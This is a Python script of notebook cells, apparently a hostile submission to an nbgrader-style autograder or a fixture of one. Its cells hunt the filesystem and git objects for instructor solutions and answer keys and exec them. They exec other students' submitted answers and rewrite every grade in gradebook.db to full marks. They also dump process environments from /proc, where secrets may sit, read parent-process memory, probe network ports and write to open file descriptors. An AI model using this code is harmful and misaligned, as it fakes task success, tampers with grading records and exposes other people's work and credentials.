# %% the solutions on the disk
import glob
import json

for path in glob.glob("/**/solutions/**/*.ipynb", recursive=True) + glob.glob("../../**/*.ipynb", recursive=True):
    try:
        for cell in json.load(open(path))["cells"]:
            source = "".join(cell["source"])
            if cell["cell_type"] == "code" and "BEGIN SOLUTION" in source:
                exec(source)
    except Exception:
        pass

# %% the key on the disk
import os

for folder, _, files in os.walk("/"):
    if "key.py" in files and "proc" not in folder:
        exec(open(os.path.join(folder, "key.py")).read())

# %% git's objects
import glob
import zlib

for path in glob.glob("/**/.git/objects/??/*", recursive=True):
    text = zlib.decompress(open(path, "rb").read())
    if b"BEGIN SOLUTION" in text:
        raise SystemExit("found")

# %% the gradebook
import glob
import sqlite3

for path in glob.glob("/**/gradebook.db", recursive=True):
    base = sqlite3.connect(path)
    base.execute("update grade set auto_score = 10, manual_score = 10")
    base.commit()

# %% other students' answers
import glob
import json

for path in glob.glob("/**/submitted/**/*.ipynb", recursive=True) + glob.glob("/**/autograded/**/*.ipynb", recursive=True):
    for cell in json.load(open(path))["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            exec("".join(cell["source"]))

# %% the secret of the course
import glob

for path in glob.glob("/**/.ckptlib/**", recursive=True) + glob.glob("/**/.ckptlib*", recursive=True):
    print(open(path, "rb").read())

# %% the environment, of this process and of all others
import glob
import os

print(dict(os.environ))
for path in glob.glob("/proc/*/environ"):
    print(path, open(path, "rb").read())

# %% what the kernel's memory holds of the grader
import gc

for thing in gc.get_objects():
    if type(thing).__name__ in ("Assignment", "Mistake") or (isinstance(thing, str) and "BEGIN SOLUTION" in thing):
        raise SystemExit(repr(thing))

# %% the memory of the parent
import os

for pid in {os.getppid(), 1, 2, 3}:
    try:
        maps = open(f"/proc/{pid}/maps").read()
        print(open(f"/proc/{pid}/mem", "rb").read(10))
    except OSError as error:
        print(error)

# %% the network
import socket
import urllib.request

for host in (("1.1.1.1", 80), ("127.0.0.1", 5432), ("127.0.0.1", 8786), ("127.0.0.1", 22)):
    try:
        socket.create_connection(host, timeout=1).send(b"hello")
        raise SystemExit("reached " + host[0])
    except OSError:
        pass

# %% open file descriptors
import os

for fd in range(3, 256):
    try:
        os.lseek(fd, 0, 0)
        print(fd, os.read(fd, 1000))
    except OSError:
        pass
    try:
        os.write(fd, b"10")
    except OSError:
        pass

# %% the answers from the installed library's tests
import glob

for path in glob.glob("/**/tests/submissions/**/right/*.py", recursive=True):
    exec(open(path).read().split("# %%")[1].split("\n", 1)[1])
